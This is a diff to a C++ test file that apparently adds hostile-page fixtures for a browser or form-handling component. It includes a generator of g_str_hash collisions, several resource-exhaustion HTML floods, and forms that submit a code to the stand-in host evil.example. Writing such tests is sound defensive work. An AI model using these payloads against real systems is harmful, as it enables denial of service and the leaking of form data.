@@ -57,6 +57,22 @@ Utf16 (const std::string &text)
   return wide;
 }
 
+/* Texts that g_str_hash() takes for one: 33 * 'A' + 'z' is 33 * 'B' + 'Y'. */
+inline std::string
+Alike (int n, const std::string &before)
+{
+  std::string all;
+
+  for (int i = 0; i < n; i++)
+    {
+      all += before;
+      for (int bit = 0; bit < 15; bit++)
+        all += (i >> bit & 1) != 0 ? "Az" : "BY";
+      all += '>';
+    }
+  return all;
+}
+
 const HostilePage pages[] = {
   /* where the answers go */
   { "Elsewhere", FORM_TO ("https://evil.example/"), false, "C0de" },
@@ -159,6 +175,15 @@ const HostilePage pages[] = {
   { "OptionFlood", FORM_TO ("https://evil.example/") "<select>" + Times (100000, "<option>"), false, "C0de" },
   { "ControlFlood", "<form action=//evil.example/>" + Times (50000, "<input>") + "</form>", false, "" },
   { "TextFlood", Times (100000, "an invitation was not used ") + FORM_TO ("https://evil.example/"), false, "C0de" },
+  { "AlertFlood", Times (170, Times (240, "<b role=alert>") + Times (60, "words and words ") + Times (240, "</b>")) + FORM_TO ("https://evil.example/"), false, "C0de" },
+  { "OneTextForAll", "<form action=//evil.example/><div id=a>" + Times (150000, "<img>") + "</div>" + Times (2000, "<input aria-labelledby='" + Times (32, "a ") + "'>") + CODE SUBMIT, false, "C0de" },
+  { "OneDocumentForAll", "<form action=//evil.example/><div id=a>" + Times (140000, "terms ") + "</div>" + Times (1900, "<input type=checkbox aria-describedby='" + Times (32, "a ") + "'>") + CODE SUBMIT, false, "C0de" },
+  { "LongHints", "<p id=a>" + Times (160, "words ") + "<form action=//evil.example/>" + Times (1900, "<input aria-describedby='" + Times (32, "a ") + "'>") + CODE SUBMIT, false, "C0de" },
+  { "CellsAbove", "<form action=//evil.example/><table><tr>" + Times (120000, "<td>") + "<tr>" + Times (110000, "<td>") + Times (1900, "<td><input>") + CODE SUBMIT, false, "C0de" },
+  { "NoLinkForAll", "<form action=//evil.example/>" + Times (128000, "<!---->") + Times (1900, "<input type=checkbox>") + CODE SUBMIT, false, "C0de" },
+  { "SelectsInSelects", "<form action=//evil.example/>" + Times (230, "<select>") + Times (110000, "<option>a"), false, "C0de" },
+  { "LabelOfAGroup", "<form action=//evil.example/><div role=group aria-label='" + Times (150000, "words ") + "'>" + Times (1900, "<input type=radio>") + CODE SUBMIT, false, "C0de" },
+  { "IdsAlike", Alike (27000, "<p id=") + FORM_TO ("https://evil.example/"), false, "C0de" },
   { "EntityFlood", FORM_TO ("https://evil.example/") + Times (200000, "&amp;"), false, "C0de" },
 };
 
